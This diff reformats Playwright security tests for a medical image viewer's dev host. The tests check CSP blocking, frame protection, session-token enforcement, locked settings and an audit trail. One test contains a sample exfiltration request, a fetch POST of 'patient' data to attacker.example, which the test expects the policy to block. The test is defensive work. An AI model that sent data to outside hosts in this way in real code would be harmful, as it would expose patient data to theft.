@@ -29,12 +29,18 @@ async function openWithViolations(page: Page, launchUrl: string): Promise<() => 
   await page.evaluate(() => {
     const seen: string[] = [];
     (window as unknown as { __violations: string[] }).__violations = seen;
-    document.addEventListener('securitypolicyviolation', (event) => seen.push(`${event.effectiveDirective} ${event.blockedURI}`));
+    document.addEventListener('securitypolicyviolation', (event) =>
+      seen.push(`${event.effectiveDirective} ${event.blockedURI}`),
+    );
   });
-  return () => page.evaluate(() => [...(window as unknown as { __violations: string[] }).__violations]);
+  return () =>
+    page.evaluate(() => [...(window as unknown as { __violations: string[] }).__violations]);
 }
 
-test('the CSP blocks injected scripts, eval, remote code, remote requests and form posts', async ({ page, devHost }) => {
+test('the CSP blocks injected scripts, eval, remote code, remote requests and form posts', async ({
+  page,
+  devHost,
+}) => {
   const violations = await openWithViolations(page, devHost.launchUrl);
   await expect(page.getByTestId('study-list-empty')).toBeVisible();
 
@@ -55,7 +61,10 @@ test('the CSP blocks injected scripts, eval, remote code, remote requests and fo
 
     // Code evaluated by the test driver itself is exempt from CSP, so eval is probed the way an
     // injected page script would reach it: a string timer, which CSP treats as eval.
-    (window.setTimeout as unknown as (code: string, ms: number) => void)('window.__evalRan = true', 0);
+    (window.setTimeout as unknown as (code: string, ms: number) => void)(
+      'window.__evalRan = true',
+      0,
+    );
     let fetchBlocked = false;
     try {
       await fetch('https://attacker.example/exfiltrate', { method: 'POST', body: 'patient' });
@@ -63,9 +72,19 @@ test('the CSP blocks injected scripts, eval, remote code, remote requests and fo
       fetchBlocked = true;
     }
     await new Promise((resolve) => setTimeout(resolve, 300));
-    return { inlineRan: flags['__inlineRan'] === true, handlerRan: flags['__handlerRan'] === true, evalRan: flags['__evalRan'] === true, fetchBlocked };
+    return {
+      inlineRan: flags['__inlineRan'] === true,
+      handlerRan: flags['__handlerRan'] === true,
+      evalRan: flags['__evalRan'] === true,
+      fetchBlocked,
+    };
   });
-  expect(outcome).toEqual({ inlineRan: false, handlerRan: false, evalRan: false, fetchBlocked: true });
+  expect(outcome).toEqual({
+    inlineRan: false,
+    handlerRan: false,
+    evalRan: false,
+    fetchBlocked: true,
+  });
 
   // A form posting the page's content elsewhere is stopped by form-action 'none'.
   const urlBefore = page.url();
@@ -80,8 +99,17 @@ test('the CSP blocks injected scripts, eval, remote code, remote requests and fo
   expect(page.url()).toBe(urlBefore);
 
   const seen = await violations();
-  for (const directive of ['script-src-elem', 'script-src-attr', 'script-src', 'connect-src', 'form-action']) {
-    expect(seen.some((line) => line.startsWith(`${directive} `)), `${directive} in ${seen.join(' | ')}`).toBe(true);
+  for (const directive of [
+    'script-src-elem',
+    'script-src-attr',
+    'script-src',
+    'connect-src',
+    'form-action',
+  ]) {
+    expect(
+      seen.some((line) => line.startsWith(`${directive} `)),
+      `${directive} in ${seen.join(' | ')}`,
+    ).toBe(true);
   }
 });
 
@@ -92,7 +120,10 @@ test('another site cannot frame the app (frame-ancestors)', async ({ page, devHo
   expect(headers['content-security-policy']).toContain("frame-ancestors 'none'");
 });
 
-test('the dev host refuses the page, images and the API without its session token', async ({ app, devHost }) => {
+test('the dev host refuses the page, images and the API without its session token', async ({
+  app,
+  devHost,
+}) => {
   await openTestFolder(app, MR);
   await waitForImage(app);
   // The id of an image the logged-in page is allowed to read.
@@ -108,13 +139,18 @@ test('the dev host refuses the page, images and the API without its session toke
   const stranger = await playwrightRequest.newContext();
   try {
     for (const path of ['/', instancePath, '/__devhost/bridge.js', '/?token=0000']) {
-      expect((await stranger.get(`${devHost.url}${path}`, { maxRedirects: 0 })).status(), path).toBe(403);
+      expect(
+        (await stranger.get(`${devHost.url}${path}`, { maxRedirects: 0 })).status(),
+        path,
+      ).toBe(403);
     }
   } finally {
     await stranger.dispose();
   }
   const refused = await new Promise<string>((resolve) => {
-    const socket = new WebSocket(`${devHost.url.replace('http', 'ws')}/__devhost/ws`, { headers: { origin: devHost.url } });
+    const socket = new WebSocket(`${devHost.url.replace('http', 'ws')}/__devhost/ws`, {
+      headers: { origin: devHost.url },
+    });
     socket.once('open', () => resolve('open'));
     socket.once('error', (error) => resolve(error.message));
   });
@@ -131,11 +167,17 @@ test('settings fixed by policy show locked and cannot be changed', async ({ page
     await expect(page.getByTestId('language')).toBeDisabled();
     await expect(page.getByTestId('language')).toHaveValue('en');
     await expect(page.getByTestId('language-locked')).toHaveText('Set by your administrator');
-    await expect(page.getByTestId('study-list-empty')).toHaveText('No studies yet. Open a folder to begin.');
+    await expect(page.getByTestId('study-list-empty')).toHaveText(
+      'No studies yet. Open a folder to begin.',
+    );
     await page.getByTestId('managed-badge').locator('summary').click();
-    await expect(page.getByTestId('managed-idle-lock')).toHaveText('Screen locks after 5 min without input');
+    await expect(page.getByTestId('managed-idle-lock')).toHaveText(
+      'Screen locks after 5 min without input',
+    );
     await page.screenshot({ path: testInfo.outputPath('managed-policy.png') });
-    const reply = await page.evaluate(() => window.mitate.invoke('settings.update', { locale: 'ja' }));
+    const reply = await page.evaluate(() =>
+      window.mitate.invoke('settings.update', { locale: 'ja' }),
+    );
     expect(reply).toEqual({ ok: false, error: { code: 'setting_locked', detail: 'locale' } });
     await page.reload();
     await expect(page.getByTestId('language')).toHaveValue('en');
@@ -145,7 +187,9 @@ test('settings fixed by policy show locked and cannot be changed', async ({ page
   }
 });
 
-test('viewing a study leaves an intact audit trail with start, import and the images read, naming the patient', async ({ page }) => {
+test('viewing a study leaves an intact audit trail with start, import and the images read, naming the patient', async ({
+  page,
+}) => {
   const host = await startDevHostProcess([]);
   try {
     await page.goto(host.launchUrl);
@@ -154,16 +198,33 @@ test('viewing a study leaves an intact audit trail with start, import and the im
     await waitForImage(page);
     const logFile = join(host.dataDir, 'audit', 'audit.jsonl');
     // Image reads are written once they pause (main/audit/instanceAccessRecorder.ts).
-    await expect.poll(async () => (await readFile(logFile, 'utf8').catch(() => '')).includes('"110103"'), { timeout: 15_000 }).toBe(true);
+    await expect
+      .poll(async () => (await readFile(logFile, 'utf8').catch(() => '')).includes('"110103"'), {
+        timeout: 15_000,
+      })
+      .toBe(true);
     const text = await readFile(logFile, 'utf8');
     expect(verifyChain(text)).toMatchObject({ ok: true });
-    const entries = text.trim().split('\n').map((line) => JSON.parse(line) as { event: { code: string }; type?: { code: string }; patients?: { id: string; name?: string }[]; studies?: { instanceCount?: number }[] });
+    const entries = text
+      .trim()
+      .split('\n')
+      .map(
+        (line) =>
+          JSON.parse(line) as {
+            event: { code: string };
+            type?: { code: string };
+            patients?: { id: string; name?: string }[];
+            studies?: { instanceCount?: number }[];
+          },
+      );
     expect(entries[0]).toMatchObject({ event: { code: '110100' }, type: { code: '110120' } });
     const imported = entries.find((entry) => entry.event.code === '110107');
     expect(imported?.patients).toEqual([{ id: '999', name: 'Development' }]);
     const accessed = entries.filter((entry) => entry.event.code === '110103');
     expect(accessed[0]?.patients?.[0]?.id).toBe('999');
-    expect(accessed.reduce((sum, entry) => sum + (entry.studies?.[0]?.instanceCount ?? 0), 0)).toBeGreaterThan(0);
+    expect(
+      accessed.reduce((sum, entry) => sum + (entry.studies?.[0]?.instanceCount ?? 0), 0),
+    ).toBeGreaterThan(0);
   } finally {
     await host.stop();
   }
